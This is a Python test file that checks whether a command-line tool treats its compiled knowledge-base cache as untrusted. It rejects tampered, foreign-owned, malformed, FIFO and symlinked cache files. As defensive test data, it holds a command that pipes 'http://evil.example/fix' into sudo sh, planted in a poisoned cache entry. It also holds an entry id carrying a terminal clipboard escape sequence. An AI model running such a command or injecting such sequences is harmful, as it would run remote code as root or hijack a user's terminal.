"""The compiled-KB cache is trusted only as the user's own, validated before use, and
written without leaving temporary files behind on any way out."""

from __future__ import annotations

import errno
import json
import os
import subprocess
import time

import pytest
from conftest import run_xenkb
from reliability_support import assert_one_line_error, run_limited

import xenkb.catalog as catalog_module
from xenkb.catalog import cache_dir, load_catalog

EVIL = "curl -s http://evil.example/fix | sudo sh"


def _cache_file():  # type: ignore[no-untyped-def]
    load_catalog(user=False)
    [path] = list(cache_dir().glob("kb-*.json"))
    return path


def _poison(path) -> None:  # type: ignore[no-untyped-def]
    data = json.loads(path.read_text())
    for entry in data["entries"]:
        if entry["id"] == "4gb-seg-fixup":
            entry["fix"] = [{"step": "Run this.", "commands": [EVIL], "file": None, "config": None}]
    path.write_text(json.dumps(data))


def _show_seg(*extra: str) -> subprocess.CompletedProcess:
    return run_xenkb("show", "--no-user-kb", *extra, "4gb-seg-fixup")


def test_a_cache_file_others_can_write_is_ignored_and_rebuilt(tmp_path):
    path = _cache_file()
    _poison(path)
    os.chmod(path, 0o666)
    r = _show_seg()
    assert r.returncode == 0
    assert EVIL.encode() not in r.stdout
    assert_one_line_error(r.stderr, "writable by other users")
    assert EVIL not in path.read_text()  # rebuilt in place
    assert os.stat(path).st_mode & 0o077 == 0


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to chown")
def test_a_cache_directory_of_another_user_is_not_used(tmp_path, monkeypatch):
    path = _cache_file()
    _poison(path)
    os.chown(path, 65534, 65534)
    os.chown(path.parent, 65534, 65534)
    os.chmod(path.parent, 0o777)
    env = dict(os.environ, TMPDIR=str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    r = subprocess.run([*__import__("conftest").xenkb_command(), "show", "--no-user-kb", "4gb-seg-fixup"],
                       capture_output=True, timeout=60, env=env)
    assert r.returncode == 0
    assert EVIL.encode() not in r.stdout
    assert_one_line_error(r.stderr, "owned by another user")
    assert list((tmp_path / "tmp").glob("xenkb-*-cache/kb-*.json"))  # rebuilt elsewhere


@pytest.mark.parametrize("shape", [
    [],
    {"entries": 5, "problems": [], "scan_literals": []},
    {"entries": [{"id": "x"}], "problems": [], "scan_literals": []},
    {"entries": [], "problems": [{"path": 1}], "scan_literals": []},
    {"entries": [], "problems": [], "scan_literals": [None]},
    "deep",
    "bad-id",
    "applies-to-a-list",
    "require-a-number",
    "anchors-a-mapping",
])
def test_a_cache_of_the_wrong_shape_is_rebuilt_not_a_crash(shape, catalog):
    path = _cache_file()
    good = json.loads(path.read_text())
    if shape == "deep":
        text = "[" * 200_000 + "]" * 200_000
    elif shape == "bad-id":
        good["entries"][0]["id"] = "x\x1b]52;c;Y3VybA==\x07"
        text = json.dumps(good)
    elif shape == "applies-to-a-list":  # AttributeError while loading
        good["entries"][0]["applies_to"] = []
        text = json.dumps(good)
    elif shape == "require-a-number":  # a TypeError later, at the first scan
        seg = next(e for e in good["entries"] if e["id"] == "4gb-seg-fixup")
        seg["signatures"][0]["require"] = 5
        text = json.dumps(good)
    elif shape == "anchors-a-mapping":
        good["entries"][0]["signatures"][0]["anchors"] = {"not": "a list"}
        text = json.dumps(good)
    else:
        text = json.dumps(shape)
    path.write_text(text)
    again = load_catalog(user=False)
    assert set(again.entries) == set(catalog.entries)
    assert all("\x1b" not in entry_id for entry_id in again.entries)
    again.matcher().scan_text("4gb seg fixup, process klogd (pid 2075), cs:ip 73:b7e25870")


def test_a_cache_file_that_is_a_fifo_is_not_read(tmp_path):
    path = _cache_file()
    path.unlink()
    os.mkfifo(path)
    try:
        r = run_xenkb("list", "--no-user-kb", timeout=60)
    except subprocess.TimeoutExpired:
        pytest.fail("reading a FIFO as the cache blocked")
    assert r.returncode == 0
    assert_one_line_error(r.stderr, "not a regular file")


def test_a_cache_file_linked_to_dev_zero_is_not_read(tmp_path):
    path = _cache_file()
    path.unlink()
    path.symlink_to("/dev/zero")
    r = run_limited("list", "--no-user-kb", timeout=120)
    assert r.returncode == 0, r.stderr[-2000:]
    assert_one_line_error(r.stderr, "symbolic link")


@pytest.mark.parametrize("failure", [OSError(errno.ENOSPC, "No space left on device"), KeyboardInterrupt()])
def test_no_temporary_file_is_left_when_a_cache_write_fails(monkeypatch, failure):
    real_dump = json.dump

    def failing_dump(obj, fp, *args, **kwargs):  # type: ignore[no-untyped-def]
        fp.write("{" + " " * 100_000)  # part of it was written, as on a disk filling up
        raise failure

    monkeypatch.setattr(json, "dump", failing_dump)
    try:
        load_catalog(user=False)
    except KeyboardInterrupt:
        pass
    monkeypatch.setattr(json, "dump", real_dump)
    assert not list(cache_dir().glob(".kb-*.tmp"))


def test_temporary_files_an_earlier_run_left_are_swept(monkeypatch):
    cache_dir().mkdir(parents=True, exist_ok=True, mode=0o700)
    stale = cache_dir() / ".kb-abandoned.tmp"
    stale.write_text("{")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    fresh = cache_dir() / ".kb-another-run.tmp"  # perhaps another xenkb writing now
    fresh.write_text("{")
    load_catalog(user=False)
    assert not stale.exists() and fresh.exists()


def test_the_schema_follows_the_model():
    from xenkb.cachefile import conforms, valid_catalog
    from xenkb.model import Entry

    path = _cache_file()
    data = json.loads(path.read_text())
    assert valid_catalog(data)
    assert conforms(data["entries"][0], Entry)
    entry = dict(data["entries"][0])
    entry["unexpected"] = 1
    assert not conforms(entry, Entry)
    del entry["unexpected"], entry["title"]
    assert not conforms(entry, Entry)
    assert catalog_module.CACHE_KEEP >= 1
